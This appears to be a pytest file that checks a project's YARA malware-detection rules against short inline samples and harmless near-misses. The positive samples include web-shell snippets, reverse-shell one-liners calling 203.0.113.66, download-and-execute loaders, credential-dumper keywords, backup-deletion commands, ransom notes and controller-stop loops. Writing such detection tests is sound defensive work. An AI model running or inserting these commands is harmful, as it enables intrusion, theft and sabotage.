# ruff: noqa: E501 - one sample a line
"""Our YARA rules on samples put together here; none of them does anything, and none is stored as a file of the repository."""

from __future__ import annotations

import base64
import io
import re
import zipfile
from pathlib import Path

import pytest
import yara

from detectors.rule_lint import known_attack_tags

RULES = sorted((Path(__file__).resolve().parents[2] / "rules" / "yara").glob("*.yar"))
LINK = bytes.fromhex("4c0000000114020000000000c000000000000046")
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
ASK = "$_" + "POST['a']"
PHP, END = "<" + "?php ", " ?" + ">"
EICAR = "X5O!P%@AP[4" + "\\PZX54(P^)7CC)7}" + "$EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!" + "$H+H*"
WALLET = "4" + "A" + "b1C2d3E4f5" * 9 + "xyz"

LOADER = b"<%! class U extends Class" + b'Loader{} %><% Cipher c = Cipher.getInstance("AES"); request.getReader(); %>'
PYTHON = b"s=socket.socket(2);os.dup2" + b"(s.fileno(),0);import pty;pty.spawn('/bin/sh');os.system('x')"
APPLICATION = b"<hta:application/><script>new ActiveXObject('WScript." + b"Shell').Run('calc');</script>"

ELF, PE = b"\x7fELF\x02\x01\x01" + bytes(57), b"MZ" + bytes(62)


def utf16(text: str) -> bytes:
    return text.encode("utf-16-le")


def zipped(*names: str) -> bytes:
    """A ZIP archive of small files with these names."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in names:
            archive.writestr(name, b"x")
    return buffer.getvalue()


def hive(path: str, content: bytes = b"") -> bytes:
    """Head of a registry hive: mark, 44 bytes of counters, and the end of its path in UTF-16."""
    return b"regf" + bytes(44) + utf16(path).ljust(64, b"\0") + bytes(400) + content


def beacon(key: int) -> bytes:
    """The first three settings of a beacon under a one-byte key."""
    block = bytes.fromhex("00010001000200000002000100020bb80003000200040000ea60")
    return PE + bytes(200) + bytes(byte ^ key for byte in block) + bytes(99)


def table(name: str) -> bytes:
    """Head of an ESE database that has the tables of a directory."""
    return bytes(4) + bytes.fromhex("efcdab89") + bytes(600) + b"sd_" + b"table\0link_" + b"table\0" + utf16(name)


POSITIVE: list[tuple[str, bytes]] = [
    ("webshell_php_runs_request", f"{PHP}@ev{'al'}({ASK});{END}".encode()),
    ("webshell_php_runs_request", f"GIF89a\n{PHP}sys{'tem'}($_{'GET'}['c']);".encode()),
    ("webshell_php_runs_request", f"<?= `{'$_' + 'REQUEST'}[c]` ?>".encode()),
    ("webshell_php_hidden_code", f"{PHP}ev{'al'}(gzinflate(base64_decode('{'QUJD' * 80}')));".encode()),
    ("webshell_jsp_runs_request", b'<% String c = request.getParameter("c"); Runtime.get' + b"Runtime().exec(c); %>"),
    ("webshell_jsp_runs_request", b'<%@ page %><% new Process' + b'Builder(request.getParameter("x").split(" ")).start(); %>'),
    ("webshell_jsp_loads_encrypted_class", LOADER),
    ("liandun_demo_file", b"#!/bin/sh\n# LIANDUN-DEMO-TEST-FILE\n"),
    ("eicar_test_file", EICAR.encode()),
    ("credential_dumper_words", ("privilege::" + "debug\n" + "sekurlsa::" + "logonpasswords").encode()),
    ("credential_dumper_words", b"MZ" + bytes(64) + utf16("lsadump::" + "sam") + bytes(9) + utf16("gentil" + "kiwi")),
    ("miner_configuration", b'{"algo": "rx/0", "pools": [{"url": "stratum+' + b'tcp://pool.example:3333"}], "donate-level": 1}'),
    ("miner_configuration", f"m -o pool.example:3333 -u {WALLET} --donate-level=1".encode()),
    ("reverse_shell_script", b"bash -i >& /dev/" + b"tcp/203.0.113.66/4444 0>&1"),
    ("reverse_shell_script", PYTHON),
    ("shortcut_starts_interpreter", LINK + bytes(56) + utf16("powershell.exe -w hidden -enc " + "QQBB" * 10)),
    ("shortcut_starts_interpreter", LINK + bytes(56) + utf16("mshta.exe http://203.0.113.66/a.hta")),
    ("html_application_starts_program", APPLICATION),
    ("document_macro_fetches_program", OLE + b"Sub Auto" + b"Open()\x00URLDownload" + b"ToFileA\x00"),
    ("ransom_note", b"All your files have been encrypted! Send 0.5 Bitcoin and write to help-you-now@proton" + b"mail.com"),
    ("ransom_note", "您的文件已被加密，支付比特币后联系 restore@tutanota" .encode() + b".com"),
    ("ransom_note", "您的全部数据被加密，请用比特币付款，联系 restore@onionmail".encode("gb18030") + b".org"),
    ("webshell_php_encrypted_body", f"{PHP}$d=file_get_contents('php://" .encode() + b"input');$x=openssl_" + b"decrypt($d,'AES128',$k);ev" + b"al($x);"),
    ("webshell_php_encrypted_body", f"{PHP}$_SESSION['k']=1; $c=$_{'POST'}['p']; $c[$i]^$k[$i+1&15]; ev{'al'}($c);".encode()),
    ("webshell_php_function_from_request", f"{PHP}$_{'GET'}['f']($_{'POST'}['a']);".encode()),
    ("webshell_php_function_from_request", f"{PHP}array_{'map'}($_{'REQUEST'}['f'], array($x));".encode()),
    ("webshell_aspx_runs_request", b'<%@ Page Language="Jscript"%><%ev' + b'al(Request.Item["z"],"unsafe");%>'),
    ("webshell_aspx_runs_request", b"<%ex" + b'ecute(Request("c"))%>'),
    ("webshell_aspx_runs_request", b'<%@ Page %><% var p=new Process' + b'StartInfo(Request.Form["c"]); Response.Write(p.StandardOutput); %>'),
    ("webshell_aspx_loads_encrypted_assembly", b"<%@ Page %><% new Rijndael" + b"Managed(); Request.Binary" + b"Read(9); Assembly" + b".Load(x); %>"),
    ("memory_shell_registration", b"StandardContext c; f.setAccessible(true); c.addFilterMap" + b"Before(m); Runtime.getRuntime().ex" + b"ec(q);"),
    ("device_bot_binary", ELF + b"/bin/busy" + b"box \0/dev/watch" + b"dog\0/proc/net/" + b"tcp\0\0enable\0system\0shell\0\0vizxv\0"),
    ("device_bot_binary", ELF + b"/bin/busy" + b"box X\0/ctrlt/DeviceUp" + b"grade_1\0/picsdesc" + b".xml\0/GponForm/diag_" + b"Form\0"),
    ("device_bot_loader", b"cd /tmp || cd /var/run; " + b"".join(b"wget http://203.0.113.66/%s; chmod 777 %s; ./%s\n" % (a, a, a) for a in (b"arm7", b"mips", b"x86", b"sh4"))),
    ("controller_stop_tool", b"import snap7\nfor h in ipaddress.ip_network('10.60.0.0/24'):\n c.plc_" + b"stop()\n"),
    ("controller_stop_tool", b"from pymodbus.client import X\nfor ip in range(1, 254): c.write_" + b"registers(0, [65535] * 100)\n"),
    ("engineering_archive_with_program", zipped("pump/pump.ap17", "pump/IM/readme.exe")),
    ("tunnel_configuration", b'serverAddr = "203.0.113.66"\nserverPort = 7000\n[[proxies]]\nremotePort = 6000\n'),
    ("tunnel_configuration", b"[common]\nserver_addr=203.0.113.66:8024\nvkey=abcdef\n"),
    ("tunnel_program", ELF + b"github.com/fatedier/" + b"frp/client\0" + b"github.com/fatedier/" + b"frp/pkg\0" + (b"github.com/fatedier/" + b"frp/server\0") * 3),
    ("beacon_configuration", beacon(0x2E)),
    ("beacon_configuration", beacon(0x69)),
    ("beacon_configuration", beacon(0)),
    ("packed_elf", ELF + bytes(60) + b"UP" + b"X!" + bytes(900)),
    ("script_carries_program", b"#!/bin/sh\necho f0V" + b"MRgIBAQ | base64 -d > /tmp/.x; chmod +x /tmp/.x; /tmp/.x"),
    ("script_carries_program", b"$b=[Convert]::FromBase64" + b"String('TVqQAA" + b"M" * 70 + b"'); [Reflection.Assembly]::Lo" + b"ad($b); [IO.File]::WriteAllBytes($p,$b)"),
    ("program_destroys_backups", PE + b"vssadmin.exe delete " + b"shadows /all\0" + utf16("bcdedit /set {default} recovery" + "enabled no")),
    ("memory_of_lsass", b"MDMP" + bytes(600) + utf16("C:\\Windows\\System32\\ls" + "ass.exe") + utf16("ls" + "asrv.dll")),
    ("copy_of_password_store", hive("\\SystemRoot\\System32\\Config\\SAM")),
    ("copy_of_password_store", table("ntds.dit")),
    ("archive_with_double_extension", zipped("通知/2026年工资调整.pdf.exe")),
    ("archive_with_double_extension", zipped("offer.docx" + " " * 40 + ".scr")),
    ("name_written_backwards", zipped("report\u202efdp.exe")),
    ("script_lure_fetches_code", b"var x=new ActiveXObject('MSXML2.XML" + b"HTTP');var s=new ActiveXObject('ADODB.Str" + b"eam');s.SaveToFile ('a.exe');w.Run('a.exe')"),
    ("script_lure_fetches_code", b"@echo off\ncertutil -url" + b"cache -f http://203.0.113.66/a a.exe & a.exe"),
]  # fmt: skip

NEGATIVE: list[tuple[str, bytes]] = [
    ("webshell_php_runs_request", f"{PHP}echo htmlspecialchars({ASK});{END}".encode()),
    ("webshell_php_runs_request", b"Never write eval($_POST) in your code, says this text."),
    ("webshell_php_hidden_code", f"{PHP}$picture = base64_decode('{'QUJD' * 80}');".encode()),
    ("webshell_jsp_runs_request", b'<% String q = request.getParameter("q"); out.print(q); %>'),
    ("webshell_jsp_loads_encrypted_class", b'<% Cipher c = Cipher.getInstance("AES/GCM/NoPadding"); %>'),
    ("eicar_test_file", b"The EICAR test file is 68 bytes long."),
    ("eicar_test_file", bytes(200) + EICAR.encode()),
    ("credential_dumper_words", b"This page explains privilege::" + b"debug only."),
    ("miner_configuration", b'{"pools": [{"url": "https://pool.example/"}], "threads": 4}'),
    ("reverse_shell_script", b"#!/bin/bash\nexec 3<>/dev/null; bash -i\n"),
    ("shortcut_starts_interpreter", LINK + bytes(56) + utf16("C:\\Program Files\\Editor\\editor.exe")),
    ("html_application_starts_program", b"<html><script>document.title = 'x';</script></html>"),
    ("document_macro_fetches_program", OLE + b"Sub Total()\x00Range(\"A1\")\x00"),
    ("ransom_note", b"Backups are encrypted with AES-256. Questions: helpdesk@lanting.example"),
    ("ransom_note", "数据已加密存储，咨询电话 12345".encode()),
    ("webshell_php_encrypted_body", f"{PHP}$d=file_get_contents('php://input'); $x=json_decode($d);".encode()),
    ("webshell_php_encrypted_body", f"{PHP}$x=openssl_decrypt($stored,'AES128',$k); echo $x;".encode()),
    ("webshell_php_function_from_request", f"{PHP}array_map('intval', $_GET['ids']);".encode()),
    ("webshell_aspx_runs_request", b'<%@ Page Language="C#"%><% Response.Write(Server.HtmlEncode(Request["q"])); %>'),
    ("webshell_aspx_loads_encrypted_assembly", b'<%@ Page %><% var a=new AesManaged(); var b=Request["id"]; %>'),
    ("memory_shell_registration", b"StandardContext c; c.addFilterDef(d); c.addFilterMapBefore(m);"),
    ("device_bot_binary", ELF + b"/bin/busybox --install\0/dev/watchdog\0/proc/net/tcp\0"),
    ("device_bot_loader", b"#!/bin/sh\nset -e\nwget https://go.example/go.linux-arm64.tar.gz\nchmod +x go\n"),
    ("controller_stop_tool", b"import snap7\nc = snap7.client.Client()\nprint(c.get_cpu_state())\n"),
    ("controller_stop_tool", b"from pymodbus.client import X\nfor ip in range(1, 254): print(c.read_holding_registers(0, 10))\n"),
    ("engineering_archive_with_program", zipped("pump/pump.ap17", "pump/IM/readme.txt")),
    ("engineering_archive_with_program", zipped("setup/setup.exe", "setup/readme.txt")),
    ("tunnel_configuration", b"server_addr=10.31.0.12:8024\nname=exporter\n"),
    ("tunnel_configuration", b'serverAddr = "10.31.0.12"\nserverPort = 443\n'),
    ("tunnel_program", ELF + b"github.com/prometheus/client_golang\0" * 9),
    ("tunnel_program", b"See github.com/fatedier/frp/client " * 9),
    ("beacon_configuration", PE + bytes(4000)),
    ("packed_elf", ELF + bytes(4000) + b"UPX!"),
    ("script_carries_program", b"#!/bin/sh\necho aGVsbG8= | base64 -d > /tmp/hello; chmod +x /tmp/hello"),
    ("program_destroys_backups", PE + b"vssadmin.exe list shadows\0net stop mysql\0"),
    ("memory_of_lsass", b"MDMP" + bytes(600) + utf16("C:\\Program Files\\Editor\\editor.exe")),
    ("copy_of_password_store", hive("\\??\\C:\\Users\\li.na\\ntuser.dat")),
    ("copy_of_password_store", bytes(4) + bytes.fromhex("efcdab89") + bytes(600) + utf16("WebCacheV01.dat")),
    ("archive_with_double_extension", zipped("通知/2026年工资调整.pdf", "setup.exe")),
    ("archive_with_double_extension", zipped("lib/jquery.min.js", "notes.v2.txt")),
    ("name_written_backwards", zipped("report-fdp.exe")),
    ("script_lure_fetches_code", b"var x=new XMLHttpRequest(); x.open('GET','/api'); x.send();"),
    ("script_lure_fetches_code", b"certutil -hashfile a.exe SHA256"),
]  # fmt: skip


@pytest.fixture(scope="module")
def compiled() -> yara.Rules:
    return yara.compile(filepaths={path.stem: str(path) for path in RULES}, includes=False)


@pytest.mark.parametrize(("rule", "sample"), POSITIVE, ids=[f"{rule}-{number}" for number, (rule, _) in enumerate(POSITIVE)])
def test_rule_finds_its_sample(compiled: yara.Rules, rule: str, sample: bytes) -> None:
    assert rule in [match.rule for match in compiled.match(data=sample)]


@pytest.mark.parametrize(("rule", "sample"), NEGATIVE, ids=[f"{rule}-{number}" for number, (rule, _) in enumerate(NEGATIVE)])
def test_rule_leaves_the_harmless_neighbour_alone(compiled: yara.Rules, rule: str, sample: bytes) -> None:
    assert rule not in [match.rule for match in compiled.match(data=sample)]


def test_every_rule_has_both_kinds_of_samples_and_its_facts(compiled: yara.Rules) -> None:
    names = {rule.identifier for rule in compiled}
    assert len(names) >= 24
    assert {rule for rule, _ in POSITIVE} == names
    assert {rule for rule, _ in NEGATIVE} == names - {"liandun_demo_file"}
    for rule in compiled:
        assert {"id", "description", "description_zh", "author", "date", "level"} <= set(rule.meta), rule.identifier
        techniques = [word.strip().lower() for word in str(rule.meta.get("attack", "")).split(",") if word.strip()]
        assert set(techniques) <= known_attack_tags(), rule.identifier
    assert len({rule.meta["id"] for rule in compiled}) == len(names)


def test_the_product_itself_is_clean(compiled: yara.Rules) -> None:
    """No file of the repository (outside this test's neighbours and the demo's own mark) looks like what we seek."""
    root = Path(__file__).resolve().parents[2]
    found = {}
    for folder in ("kernel", "collectors", "detectors", "operations", "rules", "cli", "demo"):
        for path in (root / folder).rglob("*"):
            if path.is_file() and path.suffix in (".py", ".yar", ".yml", ".rules", ".jsonl"):
                hits = {match.rule for match in compiled.match(str(path))} - {"liandun_demo_file"}
                if hits:
                    found[str(path.relative_to(root))] = hits
    assert found == {}


def test_patterns_stand_a_hostile_file(compiled: yara.Rules) -> None:
    """Long runs that make careless patterns slow must pass within the scan's time limit (seconds)."""
    for filler in (
        b"<?php " + b"eval(" * 60_000,
        base64.b64encode(bytes(300_000)),
        b"socket.socket(" * 30_000,
        b"<%" + b"a" * 500_000,
    ):
        compiled.match(data=filler, timeout=10)


def test_no_sample_or_rule_holds_the_test_string_of_eicar() -> None:
    whole = re.escape(EICAR).encode()
    here = [Path(__file__), *RULES]
    assert not any(re.search(whole, path.read_bytes()) for path in here)
